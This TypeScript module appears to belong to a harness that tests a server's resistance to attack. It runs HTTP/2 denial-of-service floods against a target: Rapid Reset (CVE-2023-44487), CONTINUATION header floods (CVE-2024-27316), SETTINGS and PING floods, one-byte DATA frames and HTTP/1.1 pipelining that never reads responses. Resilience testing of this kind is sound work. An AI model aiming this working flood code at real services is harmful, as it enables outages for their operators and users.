import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Tally, Target } from "../../attack.ts";
import {
  connectTls,
  flood,
  fieldBlock,
  frame,
  frameFlag,
  frameType,
  RawHttp2,
  type RawHttp2Options,
  requestFrame,
} from "../../clients/raw-http2.ts";
import { type Flood, longFields } from "./long-fields.ts";

/** Steps per batch, and connections per kind of flood. */
const batch = 200;
const connections = 4;

function* numbers(turn: number): Generator<number> {
  for (let i = 0; i < batch; i++) yield 2 * (turn * batch + i) + 1;
}

const floods: Readonly<Record<string, Flood>> = {
  // CVE-2023-44487: requests that are reset as soon as they are made.
  resets: (turn) =>
    [...numbers(turn)].flatMap((stream) => [
      requestFrame(stream, "GET", "/v1/openapi.json", frameFlag.endHeaders | frameFlag.endStream),
      frame(frameType.reset, 0, stream, Buffer.of(0, 0, 0, 8)),
    ]),
  // CVE-2024-27316: header fields that never end.
  continuations: (turn) => [
    ...(turn === 0 ? [requestFrame(1, "GET", "/", 0)] : []),
    ...Array.from({ length: batch }, (_, i) =>
      frame(frameType.continuation, 0, 1, fieldBlock([[`x-${turn}-${i}`, "x".repeat(100)]])),
    ),
  ],
  settings: () => Array.from({ length: batch }, () => frame(frameType.settings, 0, 0)),
  pings: () => Array.from({ length: batch }, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))),
  // A body in frames of one byte, which the app does not read.
  oneByteFrames: (turn) => [
    ...(turn === 0 ? [...numbers(0)].slice(0, 50).map((stream) => requestFrame(stream, "POST", "/")) : []),
    ...[...numbers(0)].slice(0, 50).map((stream) => frame(frameType.data, 0, stream, Buffer.of(120))),
  ],
};

/** Networks that send long header fields. */
const networks = Array.from({ length: 8 }, (_, i) => `127.0.${40 + i}.1`);

/** Frames and requests that cost their sender little. */
export const tcpFloods: Attack = {
  name: "floods of frames, over TCP",
  unit: "batches",
  async run(target, signal, tally) {
    const kinds = Object.values(floods).flatMap((kind) => Array.from({ length: connections }, () => kind));
    await Promise.all([
      ...kinds.map(async (kind, i) => {
        while (!signal.aborted) await send(target, kind, { isDeaf: i % 2 === 0 }, signal, tally);
      }),
      ...networks.map(async (from, i) => {
        const kind = Object.values(longFields)[i % 4]!;
        while (!signal.aborted) await send(target, kind, { from }, signal, tally);
      }),
      pipeline(target, signal, tally),
    ]);
  },
};

/** Sends a flood on a connection. */
async function send(
  target: Target,
  kind: Flood,
  options: RawHttp2Options,
  signal: AbortSignal,
  tally: Tally,
): Promise<void> {
  const client = await RawHttp2.open(target, options);
  for (let turn = 0; !client.isClosed && !signal.aborted; turn++, tally()) await client.send(...kind(turn));
  client.close();
  await sleep(10);
}

/** Pipelines requests over HTTP/1.1 and reads no responses. */
async function pipeline(target: Target, signal: AbortSignal, tally: Tally): Promise<void> {
  const requests = "GET /v1/openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(batch);
  while (!signal.aborted) {
    const socket = await connectTls(target, "http/1.1");
    for (; !socket.destroyed && !signal.aborted; tally()) await flood(socket, requests);
    socket.destroy();
    await sleep(10);
  }
}
